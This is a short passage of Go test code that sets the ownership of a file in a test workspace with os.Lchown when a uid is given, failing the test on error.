	if w.uid >= 0 {
		if err := os.Lchown(filepath.Join(w.ws, rel), w.uid, w.uid); err != nil {
			t.Fatal(err)
		}
	}
}
